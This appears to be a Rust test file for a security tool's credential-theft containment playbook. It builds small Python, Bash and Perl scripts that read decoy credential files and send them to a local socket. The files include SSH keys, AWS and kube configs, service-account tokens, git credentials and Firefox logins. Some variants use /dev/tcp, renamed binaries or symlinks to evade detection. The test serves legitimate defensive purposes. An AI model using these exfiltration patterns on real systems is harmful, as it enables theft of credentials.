//! Credentials read by strangers. The files are decoys; of /etc/shadow only the beginning of a line is looked for.

use super::attack::{Place, Threat, Variant, words};
use super::tools::{copy, tool, write};

/// What a decoy holds, and so what a thief would send.
const SECRET: &str = "goal-42\n";

#[test]
fn a_thief_of_credentials_is_stopped_whatever_it_reads_with() {
    let plain = |name, prepare| Variant { name, prepare, opening: None };
    Threat {
        playbook: "contain-credential-theft",
        ports: &[],
        variants: vec![
            plain("shadow", shadow),
            plain("aws-python", aws_python),
            plain("ssh-key-perl", ssh_key_perl),
            plain("ssh-key-false-ssh", ssh_key_false_ssh),
            plain("ssh-key-link", ssh_key_link),
            plain("kube-config-bash", kube_config_bash),
            plain("kube-config-cat", kube_config_cat),
            plain("service-account-bash", service_account_bash),
            plain("git-c", git_c),
            plain("browser-python", browser_python),
        ],
    }
    .is_stopped();
}

fn decoy(place: &Place, name: &str) -> String {
    write(&place.dir, &format!("home/{name}"), SECRET).to_str().unwrap().to_owned()
}

fn python(place: &Place, read: &str) -> Vec<String> {
    let text = format!(
        "import os, socket\n\
         secret = {read}\n\
         s = socket.create_connection((\"127.0.0.1\", int(os.environ[\"PORT\"])))\n\
         if s.recv(256): s.sendall(secret)\n"
    );
    let path = write(&place.dir, "a.py", &text);
    words(&[&tool("python3"), path.to_str().unwrap()])
}

fn bash(place: &Place, read: &str) -> Vec<String> {
    let text = format!("{read} || exit\nexec 3<>/dev/tcp/127.0.0.1/$PORT\nread -r line <&3\necho \"$secret\" >&3\n");
    let path = write(&place.dir, "a.sh", &text);
    words(&[&tool("bash"), path.to_str().unwrap()])
}

/// The small program, under some name, reads it.
fn program(place: &Place, name: &str, file: &str) -> Vec<String> {
    let path = copy(&place.program, &place.dir.join(name));
    words(&[&tool("env"), &format!("FILE={file}"), &path])
}

fn shadow(place: &Place) -> Vec<String> {
    python(place, "b\"goal-42\\n\" if b\"root:\" in open(\"/etc/shadow\", \"rb\").read() else b\"\"")
}

fn aws_python(place: &Place) -> Vec<String> {
    let file = decoy(place, ".aws/credentials");
    python(place, &format!("open(\"{file}\", \"rb\").read()"))
}

fn ssh_key_perl(place: &Place) -> Vec<String> {
    let file = decoy(place, ".ssh/id_ed25519");
    let text = format!(
        "use Socket;\n\
         open(my $in, '<', '{file}') or die; my $secret = <$in>; close($in);\n\
         socket(S, PF_INET, SOCK_STREAM, 6);\n\
         connect(S, sockaddr_in($ENV{{PORT}}, inet_aton('127.0.0.1'))) or die;\n\
         sysread(S, my $line, 256) and syswrite(S, $secret);\n"
    );
    let path = write(&place.dir, "a.pl", &text);
    words(&[&tool("perl"), path.to_str().unwrap()])
}

/// A program that is called ssh is not thereby ssh.
fn ssh_key_false_ssh(place: &Place) -> Vec<String> {
    let file = decoy(place, ".ssh/id_rsa");
    program(place, "bin/ssh", &file)
}

/// Under another name, by a link.
fn ssh_key_link(place: &Place) -> Vec<String> {
    let (file, link) = (decoy(place, ".ssh/id_rsa"), place.dir.join("notes"));
    std::os::unix::fs::symlink(file, &link).unwrap();
    program(place, "reader", link.to_str().unwrap())
}

fn kube_config_bash(place: &Place) -> Vec<String> {
    let file = decoy(place, ".kube/config");
    bash(place, &format!("read -r secret < {file}"))
}

/// The reader is gone in a moment; the shell that has the secret is not.
fn kube_config_cat(place: &Place) -> Vec<String> {
    let file = decoy(place, ".kube/config");
    bash(place, &format!("secret=$(cat {file})"))
}

/// In a mount namespace of its own, as in a pod.
fn service_account_bash(place: &Place) -> Vec<String> {
    let dir = "/run/secrets/kubernetes.io/serviceaccount";
    let thief = bash(place, &format!("read -r secret < {dir}/token"));
    let enter = format!(
        "mount -t tmpfs none /run && mkdir -p {dir} && echo goal-42 > {dir}/token && exec {} {}",
        thief[0], thief[1]
    );
    words(&[&tool("unshare"), "--mount", "--propagation", "private", "/bin/sh", "-c", &enter])
}

fn git_c(place: &Place) -> Vec<String> {
    let file = decoy(place, ".git-credentials");
    program(place, "git", &file)
}

fn browser_python(place: &Place) -> Vec<String> {
    let file = decoy(place, ".mozilla/firefox/a.default/logins.json");
    python(place, &format!("open(\"{file}\", \"rb\").read()"))
}
